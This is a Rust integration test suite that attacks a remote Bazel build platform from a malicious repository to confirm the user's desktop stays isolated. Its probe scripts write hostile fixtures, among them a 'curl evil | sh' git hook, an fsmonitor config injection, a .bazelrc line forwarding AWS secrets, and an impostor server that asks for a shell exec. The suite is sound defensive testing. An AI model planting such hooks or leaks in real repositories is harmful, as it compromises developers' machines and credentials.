//! The desktop boundary, tried as an attacker who controls only the BUILD files (and so
//! everything the pod runs and writes) of the user's own repository, against the running
//! platform: the real orchestrator, cluster, pod image, Spanner and jbazel, as that same
//! user. Each attack is one test; each asserts that nothing ran, was read, sent or written
//! on the desktop, and has a positive control where a silent test could otherwise pass.
//!
//! Where the attack needs a server that answers as the pod's Bazel would not (an exec
//! request on `build`, cookies planted by a process that took the command port), a
//! stand-in command server plays the impostor on loopback (`JBAZEL_SERVER`), with the
//! real user's real mirror: what a build that killed the JVM and bound its port could do.

use std::fs;
use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::pin::Pin;
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use futures::Stream;
use proto::command_server::command_server_server::{CommandServer, CommandServerServer};
use proto::command_server::{
    CancelRequest, CancelResponse, ExecRequest, PingRequest, PingResponse, RunRequest, RunResponse,
};
use tonic::{Request, Response, Status};

use integration::platform::{desktop_owner, repo_root, show, Desktop};
use integration::stack::TestPlatform;

/// A user with a READY server and a built workspace, on a platform of their own.
struct World {
    stack: TestPlatform,
    url: String,
    alice: Desktop,
}

const SESSION: &str = "boundary-s1";

impl World {
    async fn start(name: &str) -> World {
        let stack = TestPlatform::start(name)
            .await
            .expect("the platform must start");
        let url = stack.orchestrator.url();
        let workspace = repo_root().join("integration/sample-workspace");
        let alice = stack
            .desktop("alice", "home/alice/sample", &workspace)
            .expect("alice's desktop");
        let world = World { stack, url, alice };
        // What a checkout has that a build would love to write.
        let root = &world.alice.desktop_path;
        fs::create_dir_all(root.join(".git/hooks")).expect("mkdir .git/hooks");
        fs::write(root.join(".git/config"), "[core]\n\tbare = false\n").expect(".git/config");
        fs::write(root.join(".bazelrc"), "# the repository's rc\n").expect(".bazelrc");
        world.chown_checkout();
        world
    }

    fn chown_checkout(&self) {
        let (uid, gid) = desktop_owner("alice");
        integration::platform::chown_tree(&self.alice.desktop_path, uid, gid).expect("chown");
    }

    fn jbazel(&self, env: &[(&str, &str)], args: &[&str]) -> Output {
        let mut cmd = self
            .alice
            .jbazel(&self.url, SESSION)
            .expect("jbazel binary");
        cmd.args(args).env("JBAZEL_DEADLINE_SECS", "120");
        for (k, v) in env {
            cmd.env(k, v);
        }
        run(cmd, &format!("jbazel {}", args.join(" ")))
    }

    /// The scratch dir outside the workspace: the rest of the desktop.
    fn desktop_dir(&self, name: &str) -> PathBuf {
        let d = self.stack.scratch().join("desktop").join(name);
        fs::create_dir_all(&d).expect("mkdir desktop dir");
        d
    }

    async fn finish(self) {
        drop(self.alice);
        let (_scratch, done) = self.stack.cleanup().await;
        done.expect("the test's namespace is removed");
    }
}

fn run(mut cmd: Command, what: &str) -> Output {
    let t = Instant::now();
    let out = cmd.output().expect("the command runs");
    eprintln!("{}", show(what, &out, t.elapsed()));
    out
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Every regular file under `dir` (not following links) whose bytes contain `needle`.
fn files_containing(dir: &Path, needle: &str, found: &mut Vec<PathBuf>) {
    let Ok(entries) = fs::read_dir(dir) else {
        return;
    };
    for e in entries.flatten() {
        let p = e.path();
        let Ok(m) = fs::symlink_metadata(&p) else {
            continue;
        };
        if m.is_dir() {
            files_containing(&p, needle, found);
        } else if m.is_file() && m.len() < 64 << 20 {
            let mut bytes = Vec::new();
            if fs::File::open(&p)
                .and_then(|mut f| f.read_to_end(&mut bytes))
                .is_ok()
                && bytes.windows(needle.len()).any(|w| w == needle.as_bytes())
            {
                found.push(p);
            }
        }
    }
}

fn write_package(root: &Path, pkg: &str, files: &[(&str, &str)]) {
    let dir = root.join(pkg);
    fs::create_dir_all(&dir).expect("mkdir package");
    for (name, content) in files {
        fs::write(dir.join(name), content).expect("write package file");
        if name.ends_with(".sh") {
            fs::set_permissions(dir.join(name), fs::Permissions::from_mode(0o755)).expect("chmod");
        }
    }
}

/// A genrule that runs `script` in the pod unsandboxed (as an attacker would ask) with its
/// output path as `$1`.
fn genrule(name: &str, script: &str) -> String {
    format!(
        "genrule(\n    name = \"{name}\",\n    srcs = [\"{script}\"],\n    outs = [\"{name}.txt\"],\n    \
         cmd = \"bash $(location {script}) $@\",\n    tags = [\"no-sandbox\", \"no-cache\", \"no-remote\"],\n    local = 1,\n)\n"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_build_cannot_write_the_checkout() {
    let world = World::start("boundary-src").await;
    let root = world.alice.desktop_path.clone();
    let probe = r#"#!/bin/bash
out=$1
try() { local what=$1; shift; if "$@" >/dev/null 2>&1; then echo "$what=OK"; else echo "$what=DENIED"; fi; }
{
try git_hook sh -c 'echo "curl evil | sh" > /work/src/.git/hooks/pre-commit'
try git_config sh -c 'printf "[core]\n\tfsmonitor = touch /tmp/PWNED\n" >> /work/src/.git/config'
try tools_bazel sh -c 'mkdir -p /work/src/tools && echo evil > /work/src/tools/bazel'
try envrc sh -c 'echo evil > /work/src/.envrc'
try bazelrc sh -c 'echo "build --action_env=AWS_SECRET_ACCESS_KEY" >> /work/src/.bazelrc'
try via_execroot sh -c 'echo evil >> app/BUILD'
try new_file sh -c 'echo evil > /work/src/PWNED'
try out_still_writable sh -c 'echo ok > /work/out/probe-was-here'
} > "$out"
"#;
    write_package(
        &root,
        "evil",
        &[
            ("probe.sh", probe),
            (
                "writer.sh",
                "#!/bin/bash\nset -e\necho evil > /work/src/.git/hooks/pre-commit\ntouch \"$1\"\n",
            ),
            (
                "BUILD",
                &format!(
                    "{}{}",
                    genrule("probe", "probe.sh"),
                    genrule("writer", "writer.sh")
                ),
            ),
        ],
    );
    world.chown_checkout();
    let before = |p: &str| fs::read(root.join(p)).ok();
    let (config, rc, app_build) = (
        before(".git/config"),
        before(".bazelrc"),
        before("app/BUILD"),
    );

    let out = world.jbazel(&[], &["build", "//evil:probe"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "the probe builds: {}",
        text(&out)
    );
    let report = fs::read_to_string(world.alice.artifact("evil", "probe.txt")).expect("report");
    eprintln!("boundary: probe report:\n{report}");
    for what in [
        "git_hook",
        "git_config",
        "tools_bazel",
        "envrc",
        "bazelrc",
        "via_execroot",
        "new_file",
    ] {
        assert!(
            report.contains(&format!("{what}=DENIED")),
            "{what}: the pod wrote the checkout: {report}"
        );
    }
    // The positive control: the probe could write where a build may write.
    assert!(report.contains("out_still_writable=OK"), "{report}");

    // A genrule that writes into the source tree fails, as in a sandboxed local build.
    let out = world.jbazel(&[], &["build", "//evil:writer"]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "writer must fail: {}",
        text(&out)
    );

    for p in [".git/hooks/pre-commit", "tools/bazel", ".envrc", "PWNED"] {
        assert!(!root.join(p).exists(), "{p} appeared in the checkout");
    }
    assert_eq!(before(".git/config"), config, ".git/config changed");
    assert_eq!(before(".bazelrc"), rc, ".bazelrc changed");
    assert_eq!(before("app/BUILD"), app_build, "app/BUILD changed");
    // Bazel's convenience links still reach the outputs on the desktop.
    let hello = world.jbazel(&[], &["build", "//app:hello"]);
    assert_eq!(hello.status.code(), Some(0), "{}", text(&hello));
    assert!(
        root.join("bazel-bin/app/hello").is_file(),
        "bazel-bin/app/hello resolves on the desktop"
    );
    world.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn desktop_variables_named_by_the_repository_stay_on_the_desktop() {
    let world = World::start("boundary-env").await;
    let root = world.alice.desktop_path.clone();
    fs::write(
        root.join(".bazelrc"),
        "build:never --action_env=CANARY_TOKEN\nbuild --action_env=CANARY_TWO\n",
    )
    .expect(".bazelrc");
    write_package(
        &root,
        "envprobe",
        &[
            (
                "env.sh",
                "#!/bin/bash\necho \"one=${CANARY_TOKEN:-absent} two=${CANARY_TWO:-absent}\" > \"$1\"\n",
            ),
            ("BUILD", &genrule("env", "env.sh")),
        ],
    );
    world.chown_checkout();
    let secrets = [("CANARY_TOKEN", "s3cret-one"), ("CANARY_TWO", "s3cret-two")];

    let dry = world.jbazel(
        &[("JBAZEL_DRY_RUN", "1"), secrets[0], secrets[1]],
        &["build", "//envprobe:env"],
    );
    assert_eq!(dry.status.code(), Some(0), "{}", text(&dry));
    assert!(
        !text(&dry).contains("s3cret"),
        "the request carries a desktop secret: {}",
        text(&dry)
    );
    let out = world.jbazel(&secrets, &["build", "//envprobe:env"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let seen = fs::read_to_string(world.alice.artifact("envprobe", "env.txt")).expect("env.txt");
    assert_eq!(seen.trim(), "one=absent two=absent");
    let mut leaked = Vec::new();
    files_containing(&world.alice.out_dir(), "s3cret", &mut leaked);
    assert!(leaked.is_empty(), "the pod holds the secret in {leaked:?}");

    // The control: a name the user gives on the command line does reach the build.
    let out = world.jbazel(
        &secrets,
        &["build", "--action_env=CANARY_TOKEN", "//envprobe:env"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let seen = fs::read_to_string(world.alice.artifact("envprobe", "env.txt")).expect("env.txt");
    assert_eq!(seen.trim(), "one=s3cret-one two=absent");
    world.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_repository_rc_cannot_import_desktop_files() {
    let world = World::start("boundary-import").await;
    let root = world.alice.desktop_path.clone();
    let canary = world.desktop_dir("secrets").join("canary.rc");
    fs::write(
        &canary,
        "secret: CANARY123\nbuild --define=canary=CANARY123\n",
    )
    .expect("canary");
    fs::write(
        root.join(".bazelrc"),
        format!(
            "import {}\ntry-import {}\n",
            canary.display(),
            canary.display()
        ),
    )
    .expect(".bazelrc");
    world.chown_checkout();

    for env in [&[("JBAZEL_DRY_RUN", "1")][..], &[][..]] {
        let out = world.jbazel(env, &["build", "//app:hello"]);
        assert!(
            !text(&out).contains("CANARY123"),
            "a desktop file's content is in the request: {}",
            text(&out)
        );
        assert_eq!(out.status.code(), Some(2), "refused: {}", text(&out));
        assert!(
            text(&out).contains(&canary.display().to_string()),
            "the refusal names the import: {}",
            text(&out)
        );
    }
    let mut leaked = Vec::new();
    files_containing(&world.alice.out_dir(), "CANARY123", &mut leaked);
    assert!(leaked.is_empty(), "the pod holds the canary in {leaked:?}");

    // The control: the user's own rc may import a desktop file.
    let home = world.desktop_dir("home");
    fs::write(
        home.join(".bazelrc"),
        format!("import {}\n", canary.display()),
    )
    .expect("home rc");
    fs::write(root.join(".bazelrc"), "# clean\n").expect(".bazelrc");
    let out = world.jbazel(
        &[
            ("JBAZEL_DRY_RUN", "1"),
            ("HOME", home.to_str().expect("utf-8")),
        ],
        &["build", "//app:hello"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        text(&out).contains("CANARY123"),
        "the user's own import is honoured: {}",
        text(&out)
    );
    world.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_huge_sparse_output_file_is_not_delivered() {
    let world = World::start("boundary-bep").await;
    let root = world.alice.desktop_path.clone();
    // The build swaps every staged output file for a 1 TiB sparse one: free for the pod.
    write_package(
        &root,
        "bloat",
        &[
            (
                "bloat.sh",
                "#!/bin/bash\nfor f in /work/out/jbazel/files/*; do [ -f \"$f\" ] || continue; \
                 rm -f \"$f\"; truncate -s 1T \"$f\"; echo \"$f\"; done > \"$1\"\n",
            ),
            ("BUILD", &genrule("bloat", "bloat.sh")),
        ],
    );
    world.chown_checkout();
    let bep = world.desktop_dir("ide").join("bep.bin");
    let t = Instant::now();
    let out = world.jbazel(
        &[],
        &[
            "build",
            &format!("--build_event_binary_file={}", bep.display()),
            "//bloat:bloat",
        ],
    );
    let took = t.elapsed();
    let swapped =
        fs::read_to_string(world.alice.artifact("bloat", "bloat.txt")).unwrap_or_default();
    assert!(
        !swapped.trim().is_empty(),
        "the attack must have swapped the staged file: {}",
        text(&out)
    );
    assert!(
        took < Duration::from_secs(90),
        "the delivery took {took:?}: it copied the sparse file"
    );
    let size = fs::metadata(&bep).map(|m| m.len()).unwrap_or(0);
    assert_eq!(size, 0, "the desktop got {size} bytes of the pod's file");
    assert!(
        text(&out).contains(&bep.display().to_string()),
        "the error names the file: {}",
        text(&out)
    );
    assert_ne!(out.status.code(), Some(0), "not a silent success");
    world.finish().await;
}

/// What an impostor on the command port received.
#[derive(Default)]
struct Seen {
    cookies: Vec<String>,
    args: Vec<String>,
}

/// A command server that answers every Run with `reply`, and records what it was sent.
#[derive(Clone)]
struct Impostor {
    seen: Arc<Mutex<Seen>>,
    response_cookie: String,
    exec: Option<ExecRequest>,
}

type RunStream = Pin<Box<dyn Stream<Item = Result<RunResponse, Status>> + Send>>;

#[tonic::async_trait]
impl CommandServer for Impostor {
    type RunStream = RunStream;

    async fn run(&self, req: Request<RunRequest>) -> Result<Response<RunStream>, Status> {
        let req = req.into_inner();
        if let Ok(mut seen) = self.seen.lock() {
            seen.cookies.push(req.cookie.clone());
            seen.args.extend(
                req.arg
                    .iter()
                    .map(|a| String::from_utf8_lossy(a).into_owned()),
            );
        }
        let done = RunResponse {
            cookie: self.response_cookie.clone(),
            finished: true,
            exit_code: 0,
            exec_request: self.exec.clone(),
            ..Default::default()
        };
        Ok(Response::new(Box::pin(futures::stream::iter([Ok(done)]))))
    }

    async fn cancel(
        &self,
        req: Request<CancelRequest>,
    ) -> Result<Response<CancelResponse>, Status> {
        if let Ok(mut seen) = self.seen.lock() {
            seen.cookies.push(req.into_inner().cookie);
        }
        Ok(Response::new(CancelResponse {
            cookie: self.response_cookie.clone(),
        }))
    }

    async fn ping(&self, req: Request<PingRequest>) -> Result<Response<PingResponse>, Status> {
        if let Ok(mut seen) = self.seen.lock() {
            seen.cookies.push(req.into_inner().cookie);
        }
        Ok(Response::new(PingResponse {
            cookie: self.response_cookie.clone(),
        }))
    }
}

impl Impostor {
    /// Serves on loopback; returns its address.
    async fn serve(self) -> String {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind");
        let addr = listener.local_addr().expect("addr").to_string();
        tokio::spawn(
            tonic::transport::Server::builder()
                .add_service(CommandServerServer::new(self))
                .serve_with_incoming(tokio_stream_listener(listener)),
        );
        addr
    }
}

fn tokio_stream_listener(
    listener: tokio::net::TcpListener,
) -> impl Stream<Item = std::io::Result<tokio::net::TcpStream>> {
    futures::stream::unfold(listener, |l| async move {
        let next = l.accept().await.map(|(s, _)| s);
        Some((next, l))
    })
}

/// Plants the impostor's cookies in the mirror, as a process that took the port would.
fn plant_cookies(out: &Path, request: &str, response: &str) {
    let server = out.join("server");
    for (name, value) in [("request_cookie", request), ("response_cookie", response)] {
        let p = server.join(name);
        let _ = fs::remove_file(&p);
        fs::write(&p, value).expect("plant cookie");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_impostor_server_cannot_make_the_desktop_exec() {
    let world = World::start("boundary-exec").await;
    let out = world.jbazel(&[], &["build", "//app:hello"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "the real server works: {}",
        text(&out)
    );

    let canary = world.desktop_dir("pwn").join("PWNED-by-pod");
    let exec = ExecRequest {
        working_directory: world
            .alice
            .desktop_path
            .to_string_lossy()
            .as_bytes()
            .to_vec(),
        argv: vec![
            b"/bin/sh".to_vec(),
            b"-c".to_vec(),
            format!("touch {}", canary.display()).into_bytes(),
        ],
        environment_variable: vec![],
    };
    let impostor = Impostor {
        seen: Arc::default(),
        response_cookie: "impostor-response".into(),
        exec: Some(exec),
    };
    let seen = impostor.seen.clone();
    let addr = impostor.serve().await;
    plant_cookies(
        &world.alice.out_dir(),
        "impostor-request",
        "impostor-response",
    );

    for args in [
        &["build", "//app:hello"][..],
        &["info", "release"][..],
        &["run", "//app:hello"][..],
    ] {
        let out = world.jbazel(&[("JBAZEL_SERVER", &addr)], args);
        assert_eq!(
            out.status.code(),
            Some(37),
            "{args:?}: an exec request outside `run` of a workspace binary is refused: {}",
            text(&out)
        );
        assert!(
            text(&out).contains("refusing to execute") && text(&out).contains(args[0]),
            "{args:?}: the refusal says what was refused and after which command: {}",
            text(&out)
        );
        assert!(
            !canary.exists(),
            "{args:?}: the desktop ran the pod's command"
        );
    }
    // The control: the impostor was reached (so the refusals above were jbazel's).
    assert!(
        seen.lock().map(|s| s.cookies.len() >= 3).unwrap_or(false),
        "the impostor was asked"
    );
    world.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn planted_links_and_pipes_in_the_mirror_are_not_followed() {
    let world = World::start("boundary-mirror").await;
    let out = world.jbazel(&[], &["build", "//app:hello"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let mirror = world.alice.out_dir();
    let canary = world.desktop_dir("aws").join("credentials");
    fs::write(&canary, "aws_secret_access_key=CANARY-AWS-KEY\n").expect("canary");

    let impostor = Impostor {
        seen: Arc::default(),
        response_cookie: "impostor-response".into(),
        exec: None,
    };
    let seen = impostor.seen.clone();
    let addr = impostor.serve().await;
    plant_cookies(&mirror, "impostor-request", "impostor-response");
    // The control: with plain cookies the impostor is reached.
    let out = world.jbazel(
        &[("JBAZEL_SERVER", &addr), ("JBAZEL_DEADLINE_SECS", "10")],
        &["info", "release"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(seen
        .lock()
        .map(|s| s.cookies.iter().any(|c| c == "impostor-request"))
        .unwrap_or(false));

    let cookie = mirror.join("server/request_cookie");
    let fifo = mirror.join("server/fifo");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).expect("mkfifo");
    let plants: [(&str, &dyn Fn()); 4] = [
        ("a link to a desktop secret", &|| {
            let _ = fs::remove_file(&cookie);
            std::os::unix::fs::symlink(&canary, &cookie).expect("link");
        }),
        ("a link to /dev/zero", &|| {
            let _ = fs::remove_file(&cookie);
            std::os::unix::fs::symlink("/dev/zero", &cookie).expect("link");
        }),
        ("a FIFO", &|| {
            let _ = fs::remove_file(&cookie);
            fs::rename(&fifo, &cookie).expect("fifo");
        }),
        ("a linked server directory", &|| {
            let elsewhere = world.desktop_dir("fake-server");
            fs::write(
                elsewhere.join("request_cookie"),
                "aws_secret_access_key=CANARY-AWS-KEY",
            )
            .expect("fake cookie");
            fs::write(elsewhere.join("response_cookie"), "impostor-response").expect("fake");
            let server = mirror.join("server");
            let _ = fs::rename(&server, mirror.join("server.real"));
            std::os::unix::fs::symlink(&elsewhere, &server).expect("link server/");
        }),
    ];
    for (what, plant) in plants {
        plant();
        let t = Instant::now();
        let out = world.jbazel(
            &[("JBAZEL_SERVER", &addr), ("JBAZEL_DEADLINE_SECS", "10")],
            &["info", "release"],
        );
        let took = t.elapsed();
        assert_ne!(out.status.code(), Some(0), "{what}: {}", text(&out));
        assert!(
            took < Duration::from_secs(40),
            "{what}: jbazel hung for {took:?} (its deadline is 10 s)"
        );
        let leaked = seen
            .lock()
            .map(|s| {
                s.cookies
                    .iter()
                    .chain(&s.args)
                    .any(|c| c.contains("CANARY-AWS-KEY"))
            })
            .unwrap_or(true);
        assert!(!leaked, "{what}: the secret was sent to the command port");
    }
    world.finish().await;
}
